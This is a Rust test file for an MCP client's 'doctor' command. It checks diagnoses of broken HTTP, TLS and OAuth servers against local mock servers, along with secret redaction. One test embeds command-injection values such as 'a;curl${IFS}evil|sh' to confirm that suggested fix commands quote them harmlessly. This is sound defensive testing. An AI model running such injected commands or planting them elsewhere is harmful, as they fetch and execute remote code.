//! `doctor` with broken servers over HTTP: the network, TLS, HTTP, and authorization.

use core::time::Duration;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::thread;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::json;

use crate::doctor::{Broken, assert_broken, step};
use crate::http::ServingProcess;
use crate::protection::Issuer;
use crate::support::{ClosedAddress, run};

const CERTIFICATES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../std/tests/certificates");
const ANSWER: &str = r#"{"jsonrpc":"2.0","id":1,"result":{"protocolVersion":"2025-11-25","capabilities":{},"serverInfo":{"name":"a","version":"1"}}}"#;
/// Short, for servers that say nothing.
const BRIEF: [&str; 2] = ["--timeout", "3s"];

/// Starts a server that answers each request by its line and fields with bytes, in which `ORIGIN` is its address; it goes on
/// for a while after a response that ends with `…`. Returns its origin.
fn serve(answer: impl Fn(&str, &str) -> String + Send + Sync + 'static) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let origin = format!("http://{}", listener.local_addr().expect("bound"));
    let own = origin.clone();
    let answer = alloc::sync::Arc::new(answer);
    thread::spawn(move || {
        for stream in listener.incoming() {
            let (own, answer) = (own.clone(), alloc::sync::Arc::clone(&answer));
            thread::spawn(move || {
                let mut stream = stream.expect("a connection");
                let Some((line, fields)) = read_head(&stream) else { return };
                let text = answer(&line, &fields).replace("ORIGIN", &own);
                let (text, stays) = text.strip_suffix('…').map_or((&*text, false), |text| (text, true));
                // A client that has seen enough may be gone.
                let _ = stream.write_all(text.as_bytes());
                if stays {
                    thread::sleep(Duration::from_secs(10));
                }
            });
        }
    });
    origin
}

/// Reads a request; returns its line and its fields in lower case.
fn read_head(stream: &TcpStream) -> Option<(String, String)> {
    let mut reader = BufReader::new(stream);
    let (mut line, mut fields) = (String::new(), String::new());
    reader.read_line(&mut line).ok()?;
    while reader.read_line(&mut fields).ok()? > 2 {}
    let fields = fields.to_lowercase();
    let length = fields.lines().find_map(|field| field.strip_prefix("content-length: "));
    reader.read_exact(&mut vec![0; length.map_or(0, |length| length.parse().expect("a number"))]).ok()?;
    Some((line, fields))
}

fn response(status: &str, fields: &str, body: &str) -> String {
    format!("HTTP/1.1 {status}\r\n{fields}Content-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len())
}

fn typed(status: &str, kind: &str, body: &str) -> String {
    response(status, &format!("Content-Type: {kind}\r\n"), body)
}

#[test]
fn network_that_does_not_reach_the_server_is_told_by_its_cause() {
    let row = ("name", 3, "dns", &["no-such-host.invalid has no address"][..]);
    let proxy =
        [("HTTP_PROXY", ""), ("http_proxy", "http://proxy.example:3128"), ("NO_PROXY", ""), ("no_proxy", "")];
    let report = assert_broken(row, &["http://no-such-host.invalid/mcp"], &proxy);
    assert_eq!(step(&report, "proxy").0, "warning", "{report}");
    assert!(report["failure"]["fix"].as_str().is_some_and(|fix| fix.contains("http_proxy")), "{report}");
    let closed = ClosedAddress::new();
    let row = ("port", 3, "tcp", &["refused the connection", "nothing listens"][..]);
    let report = assert_broken(row, &[&format!("http://{closed}/mcp")], &proxy);
    // A proxy is not for this machine.
    assert_eq!(step(&report, "proxy").0, "ok", "{report}");
}

#[test]
fn failed_tls_is_told_by_the_problem_of_the_certificate() {
    let [key, root] = ["key", "root"].map(|name| format!("{CERTIFICATES}/{name}.pem"));
    let trusts = [("SSL_CERT_FILE", &*root)];
    for (name, words) in [
        ("unknown", "a private authority issued it"),
        ("chain", "an authority that this machine does not trust"),
        ("cut", "an intermediate one is missing"),
        ("own", "the certificate was made by hand"),
        ("own_leaf", "the certificate was made by hand"),
        ("expired", "the certificate has expired"),
        ("other", "the certificate belongs to another name"),
    ] {
        let chain = format!("{CERTIFICATES}/{name}.pem");
        let serving = ServingProcess::new(&["--tls-cert", &chain, "--tls-key", &key]);
        let url = serving.url.replace("127.0.0.1", "localhost");
        assert_broken((name, 3, "tls", &[words]), &[&url], &trusts);
        let plain = url.replace("https", "http");
        assert_broken(("http at TLS", 3, "http", &["the port speaks TLS"]), &[&plain], &trusts);
    }
    let plain = ServingProcess::new(&[]);
    let url = plain.url.replace("http", "https");
    assert_broken(("TLS at http", 3, "tls", &["plain HTTP is spoken"]), &[&url], &trusts);
}

#[test]
fn port_of_another_protocol_is_told_by_what_it_says() {
    for (row, bytes) in [
        (("SSH", 3, "http", &["another protocol", "SSH-2.0-x"][..]), "SSH-2.0-x\r\n"),
        (
            ("lines", 3, "http", &["another protocol", "jsonrpc"][..]),
            "{\"jsonrpc\":\"2.0\",\"id\":null,\"error\":{}}\n",
        ),
        (("nothing", 3, "http", &["closed the connection"][..]), ""),
        (("silence", 4, "http", &["sent nothing within 3s"][..]), "…"),
        (("half", 3, "http", &["not valid HTTP"][..]), "HTTP/1.1 2000 OK\r\nx\r\n\r\n"),
    ] {
        let origin = serve(move |_, _| bytes.to_owned());
        assert_broken(row, &[&BRIEF[..], &[&format!("{origin}/mcp")]].concat(), &[]);
    }
}

#[test]
fn server_that_closes_at_the_first_message_is_told_from_one_that_closes_always() {
    let origin =
        serve(|line, _| if line.starts_with("GET") { response("200 OK", "", "") } else { String::new() });
    let row = ("crash", 3, "http", &["it answers a GET"][..]);
    // A key in the query is not shown.
    let report = assert_broken(row, &[&format!("{origin}/mcp?key=s3cret")], &[]);
    assert!(!report.to_string().contains("s3cret"), "{report}");
    let origin = serve(|_, _| response("404 x", "", ""));
    let report = assert_broken(("404", 3, "path", &["/mcp"]), &[&format!("{origin}/mcp?key=s3cret")], &[]);
    assert!(!report.to_string().contains("s3cret"), "{report}");
}

#[test]
fn response_that_is_no_answer_is_told_by_its_form() {
    let html = "<html><title>Sign in</title><form><input type=password></form></html>";
    let moved = |to: &str| response("307 x", &format!("Location: {to}\r\n"), "");
    let stream = "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n";
    let rows: Vec<(Broken<'_>, String)> = vec![
        (
            ("502", 3, "http", &["502", "behind it is not running"]),
            typed("502 x", "text/html", "<title>502 Bad Gateway</title>"),
        ),
        (("503", 3, "http", &["503", "overloaded"]), response("503 x", "", "")),
        (("504", 3, "http", &["504", "did not answer in time"]), response("504 x", "", "")),
        (("500", 3, "http", &["failed while it handled", "boom"]), typed("500 x", "text/plain", "boom")),
        (("429", 3, "http", &["too many requests"]), response("429 x", "", "")),
        (("login", 6, "redirect", &["a person logs in"]), moved("https://sso.example/login?next=x")),
        (("https", 3, "redirect", &["the server wants https"]), moved("https://127.0.0.1/mcp")),
        (("slash", 3, "redirect", &["the slash at the end", "/mcp/"]), moved("/mcp/")),
        (("moved", 3, "redirect", &["has moved", "/v2"]), moved("/v2")),
        (("nowhere", 3, "redirect", &["redirects to nowhere"]), response("302 x", "", "")),
        (("404", 3, "path", &["404", "none of /mcp"]), response("404 x", "", "")),
        (("405", 3, "path", &["takes no POST"]), response("405 x", "", "")),
        (("501", 3, "path", &["takes no POST"]), typed("501 x", "text/html", "Unsupported method")),
        (("421", 6, "host", &["misdirected"]), response("421 x", "", "")),
        (("host", 6, "host", &["refuses the `Host`"]), typed("403 x", "text/plain", "Invalid Host header")),
        (
            ("origin", 6, "host", &["refuses the `Origin`"]),
            typed("403 x", "text/plain", "Origin not allowed"),
        ),
        (("403", 6, "host", &["does not let this client in"]), response("403 x", "", "")),
        (
            ("page to log in", 3, "content", &["a page to log in", "Sign in"]),
            typed("200 OK", "text/html", html),
        ),
        (
            ("page", 3, "content", &["the URL is that of a page"]),
            typed("200 OK", "text/html", "<title>Docs</title>"),
        ),
        (
            ("other API", 3, "content", &["not JSON-RPC"]),
            typed("200 OK", "application/json", r#"{"status":"up"}"#),
        ),
        (("text", 3, "content", &["something else answers", "pong"]), typed("200 OK", "text/plain", "pong")),
        (("type", 3, "content", &["content type does not say so"]), typed("200 OK", "text/plain", ANSWER)),
        (
            ("id", 3, "content", &["belongs to another request"]),
            typed("200 OK", "application/json", &ANSWER.replace("\"id\":1", "\"id\":\"1\"")),
        ),
        (
            ("no id", 3, "content", &["an error that belongs to no request", "Parse error"]),
            typed(
                "400 x",
                "application/json",
                r#"{"jsonrpc":"2.0","error":{"code":-32700,"message":"Parse error"}}"#,
            ),
        ),
        (("202", 3, "content", &["202", "not answered"]), response("202 x", "", "")),
        (("406", 3, "content", &["406"]), response("406 x", "", "")),
        (("415", 3, "content", &["415"]), response("415 x", "", "")),
        (("400", 3, "content", &["no JSON-RPC error"]), typed("400 x", "text/plain", "bad")),
        (
            ("TLS port", 3, "http", &["speaks TLS"]),
            typed("400 x", "text/html", "The plain HTTP request was sent to HTTPS port"),
        ),
        (("buffering", 4, "content", &["holds the events back"]), format!("{stream}\r\n: hello\n\n…")),
        (
            ("empty stream", 3, "content", &["ends without an answer"]),
            format!("{stream}Connection: close\r\n\r\n: bye\n\n"),
        ),
    ];
    thread::scope(|scope| {
        for (row, text) in rows {
            let origin = serve(move |_, _| text.clone());
            scope.spawn(move || assert_broken(row, &[&BRIEF[..], &[&format!("{origin}/mcp")]].concat(), &[]));
        }
    });
}

#[test]
fn path_where_a_server_answers_is_named() {
    let serving = ServingProcess::new(&[]);
    let url = serving.url.replace("/mcp", "/");
    let report = assert_broken(("root", 3, "path", &["an MCP server answers at /mcp"]), &[&url], &[]);
    assert!(report["failure"]["fix"].as_str().is_some_and(|fix| fix.contains(&serving.url)), "{report}");
    // The old transport works, and is told.
    let serving = ServingProcess::new(&["--sse"]);
    let done = run(&["doctor", "--json", serving.sse.as_deref().expect("said")], &[]).assert_ok();
    let report = done.json();
    let (state, detail) = step(&report, "path");
    assert!(state == "warning" && detail.contains("HTTP+SSE"), "{done}");
}

#[test]
fn clock_and_buffering_are_warnings() {
    let fields = "Content-Type: text/event-stream\r\nDate: Sun, 06 Nov 1994 08:49:37 GMT\r\n";
    for (more, words) in [("", "`X-Accel-Buffering: no`"), ("Content-Length: ", "collects it whole")] {
        let body = format!("data: {ANSWER}\n\n");
        let more = if more.is_empty() { String::new() } else { format!("{more}{}\r\n", body.len()) };
        let text = format!("HTTP/1.1 200 OK\r\n{fields}{more}Connection: close\r\n\r\n{body}");
        let origin = serve(move |_, fields| match fields.contains("mcp-method") {
            true => response("500 x", "", ""),
            false => text.clone(),
        });
        let row = ("a date", 3, "revision", &["500"][..]);
        let report = assert_broken(row, &[&BRIEF[..], &[&format!("{origin}/mcp")]].concat(), &[]);
        let (state, detail) = step(&report, "clock");
        assert!(state == "warning" && detail.contains("ahead of that of the server"), "{report}");
        let (state, detail) = step(&report, "buffering");
        assert!(state == "warning" && detail.contains(words), "{report}");
    }
}

/// Serves a resource that asks for tokens, with its metadata and those of its authorization server.
fn serve_protected(challenge: &'static str, resource: &'static str, issuer: &'static str) -> String {
    serve(move |line, fields| match line.split(' ').nth(1).unwrap_or_default() {
        "/mcp" if fields.contains("authorization: bearer narrow") => {
            let field = "WWW-Authenticate: Bearer error=\"insufficient_scope\", scope=\"files:write\"\r\n";
            response("403 x", field, "")
        }
        "/mcp" => response("401 x", challenge, ""),
        "/meta" | "/.well-known/oauth-protected-resource/mcp" if !resource.is_empty() => {
            // The length is that of the final text.
            format!(
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n{resource}"
            )
        }
        "/.well-known/oauth-authorization-server" if !issuer.is_empty() => {
            format!("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n{issuer}")
        }
        _ => response("404 x", "", ""),
    })
}

const BEARER: &str = "WWW-Authenticate: Bearer resource_metadata=\"ORIGIN/meta\"\r\n";
const BARE: &str = "WWW-Authenticate: Bearer\r\n";
const RESOURCE: &str = r#"{"resource":"ORIGIN/mcp","authorization_servers":["ORIGIN"]}"#;
const ISSUER: &str =
    r#"{"issuer":"ORIGIN","token_endpoint":"ORIGIN/token","authorization_endpoint":"ORIGIN/a"}"#;

#[test]
fn authorization_that_fails_is_told_by_its_step() {
    let other = r#"{"resource":"https://other.example/mcp","authorization_servers":["ORIGIN"]}"#;
    let without = r#"{"resource":"ORIGIN/mcp"}"#;
    let down = r#"{"resource":"ORIGIN/mcp","authorization_servers":["http://127.0.0.1:1"]}"#;
    let strange = r#"{"issuer":"https://other.example","token_endpoint":"ORIGIN/token"}"#;
    let rows: [(Broken<'_>, [&'static str; 3]); 10] = [
        (("no challenge", 6, "token", &["has no `WWW-Authenticate`"]), ["", "", ""]),
        (
            ("basic", 6, "token", &["another credential", "Basic"]),
            ["WWW-Authenticate: Basic realm=\"x\"\r\n", "", ""],
        ),
        (("no metadata", 6, "resource", &["does not say where", "RFC 9728"]), [BARE, "", ""]),
        (
            ("other resource", 6, "resource", &["another server", "https://other.example/mcp"]),
            [BEARER, other, ISSUER],
        ),
        (("no issuer", 6, "resource", &["names no authorization server"]), [BEARER, without, ISSUER]),
        (("issuer down", 3, "issuer", &["is not reached"]), [BEARER, down, ISSUER]),
        (("no issuer metadata", 6, "issuer", &["publishes no metadata"]), [BEARER, RESOURCE, ""]),
        (
            ("other issuer", 6, "issuer", &["another issuer", "https://other.example"]),
            [BEARER, RESOURCE, strange],
        ),
        (("no endpoint", 6, "issuer", &["token_endpoint"]), [BARE, RESOURCE, r#"{"issuer":"ORIGIN"}"#]),
        (("no token", 6, "token", &["nobody has logged in"]), [BEARER, RESOURCE, ISSUER]),
    ];
    for (row, [challenge, resource, issuer]) in rows {
        let origin = serve_protected(challenge, resource, issuer);
        let report = assert_broken(row, &[&format!("{origin}/mcp")], &[]);
        let fix = report["failure"]["fix"].as_str().expect("a fix");
        assert!(row.0 != "no token" || fix.contains(&format!("mcp-probe login {origin}/mcp")), "{report}");
    }
}

#[test]
fn refused_token_is_told_by_its_cause() {
    let dated = "WWW-Authenticate: Bearer error=\"invalid_token\", resource_metadata=\"ORIGIN/meta\"\r\nDate: Sun, 06 Nov 1994 08:49:37 GMT\r\n";
    let expired = format!("e30.{}.x", URL_SAFE_NO_PAD.encode(json!({"exp": 1_000}).to_string()));
    let rows: [(Broken<'_>, &'static str, &str); 4] = [
        (("expired", 6, "token", &["the token has expired"]), BEARER, &expired),
        (("clock", 6, "token", &["the clock of this machine", "invalid_token"]), dated, "opaque"),
        (("refused", 6, "token", &["revoked, or for another server"]), BEARER, "opaque"),
        (("scope", 6, "scopes", &["files:write", "insufficient_scope"]), BEARER, "narrow"),
    ];
    for (row, challenge, token) in rows {
        let origin = serve_protected(challenge, RESOURCE, ISSUER);
        let report = assert_broken(row, &["--bearer", token, &format!("{origin}/mcp")], &[]);
        assert!(!report.to_string().contains(token), "{report}");
    }
}

#[test]
fn key_that_is_refused_and_one_that_is_missing_are_told_apart_by_what_the_server_says() {
    let origin = serve(|_, fields| match fields.contains("x-key: ") {
        true => typed("401 x", "application/json", r#"{"error":"key revoked in March"}"#),
        false => typed("401 x", "application/json", r#"{"error":"no key given"}"#),
    });
    let url = format!("{origin}/mcp");
    let missing = ("missing", 6, "token", &["asks for a credential", "no key given"][..]);
    assert_broken(missing, &[&url], &[]);
    let refused = ("refused", 6, "token", &["refuses the credential", "key revoked in March"][..]);
    let report = assert_broken(refused, &["--header", "X-Key: abc", &url], &[]);
    assert!(
        report["failure"]["fix"].as_str().is_some_and(|fix| fix.starts_with("compare the key")),
        "{report}"
    );
}

#[test]
fn what_is_sent_is_in_no_text_although_the_server_sends_it_back() {
    let token = "s3cr3ttoken-abcdef";
    let key = format!("X-Key: {token}");
    let challenge = format!("WWW-Authenticate: Bearer error_description=\"no {token}\"\r\n");
    let basic = format!("WWW-Authenticate: Basic realm=\"{token}\"\r\n");
    let page = format!("<title>{token}</title>");
    let rows: [(Broken<'_>, String); 5] = [
        (
            ("status", 6, "host", &["does not let"]),
            typed("403 x", "text/plain", &format!("no Bearer {token}")),
        ),
        (("page", 3, "content", &["a page"]), typed("200 OK", "text/html", &page)),
        (("scheme", 6, "token", &["another credential"]), response("401 x", &basic, "")),
        (("description", 6, "token", &["status 401"]), response("401 x", &challenge, "")),
        (("protocol", 3, "http", &["another protocol"]), format!("no {token}\r\n")),
    ];
    for (row, text) in rows {
        let origin = serve(move |_, _| text.clone());
        for option in [["--bearer", token], ["--header", &key]] {
            if option[0] == "--header" && row.0 == "description" {
                continue; // Without a credential of OAuth the metadata comes first.
            }
            let report =
                assert_broken(row, &[&BRIEF[..], &option, &[&format!("{origin}/mcp")]].concat(), &[]);
            assert!(!report.to_string().contains("s3cr3t"), "{report}");
        }
    }
}

#[test]
fn commands_of_a_fix_run_nothing_that_the_server_names() {
    let evil = "a;curl${IFS}evil|sh";
    let path = "a;$(evil)&sh";
    let field = format!("WWW-Authenticate: Bearer error=\"insufficient_scope\", scope=\"{evil}\"\r\n");
    let rows: [(Broken<'_>, &str, String); 2] = [
        (("scope", 6, "scopes", &["insufficient_scope"]), evil, response("403 x", &field, "")),
        (
            ("moved", 3, "redirect", &["redirects"]),
            path,
            response("307 x", &format!("Location: /{path}\r\n"), ""),
        ),
    ];
    for (row, evil, text) in rows {
        let origin = serve(move |_, _| text.clone());
        let report = assert_broken(row, &["--bearer", "narrow", &format!("{origin}/mcp")], &[]);
        let fix = report["failure"]["fix"].as_str().expect("a fix");
        let quoted = fix.split('\'').nth(1).unwrap_or_default();
        assert!(quoted.contains(evil) && fix.matches(evil).count() == 1, "{fix}");
    }
}

#[test]
fn sessions_of_the_diagnosis_are_ended_with_the_credential_that_began_them() {
    let ended = alloc::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let seen = alloc::sync::Arc::clone(&ended);
    let origin = serve(move |line, fields| {
        let path = line.split(' ').nth(1).unwrap_or_default().to_owned();
        let begun = format!("Content-Type: text/plain\r\nMcp-Session-Id: of{}\r\n", path.replace('/', "-"));
        match (line.split(' ').next(), &*path) {
            (Some("DELETE"), _) => {
                seen.lock().expect("unpoisoned").push(format!("{path} {fields}"));
                response("200 OK", "", "")
            }
            // A run that fails after the session began, and one that is found at another path.
            (Some("POST"), "/mcp") => response("200 OK", &begun, ANSWER),
            _ => response("404 x", "", ""),
        }
    });
    for (path, step) in [("/mcp", "content"), ("/wrong", "path")] {
        let url = format!("{origin}{path}");
        assert_broken(("session", 3, step, &[]), &["--bearer", "opaque-1", &url], &[]);
        let ended = core::mem::take(&mut *ended.lock().expect("unpoisoned"));
        assert_eq!(ended.len(), 1, "{path}: {ended:?}");
        for part in ["/mcp ", "mcp-session-id: of-mcp", "authorization: bearer opaque-1"] {
            assert!(ended[0].contains(part), "{path}: {ended:?}");
        }
    }
}

#[test]
fn server_over_http_that_works_passes_all_steps_in_both_eras() {
    for (era, revision) in [("legacy", "2025-11-25"), ("modern", "2026-07-28")] {
        let serving = ServingProcess::new(&["--era", era]);
        let done = run(&["doctor", "--json", &serving.url], &[]).assert_ok();
        let report = done.json();
        assert_eq!(step(&report, "revision"), ("ok", &*format!("{era} era, revision {revision}")), "{done}");
        assert_eq!(step(&report, "lists"), ("ok", "4 tools"), "{done}");
    }
    // A token that is sent and accepted.
    let issuer = Issuer::new();
    let serving = ServingProcess::new(&["--protect", &issuer.0]);
    let token = issuer.token(&serving.url, "");
    let done = run(&["doctor", "--json", "--bearer", &token, &serving.url], &[]).assert_ok();
    assert_eq!(step(&done.json(), "lists"), ("ok", "4 tools"), "{done}");
    assert_broken(("protected", 6, "token", &["there is none"]), &[&serving.url], &[]);
}
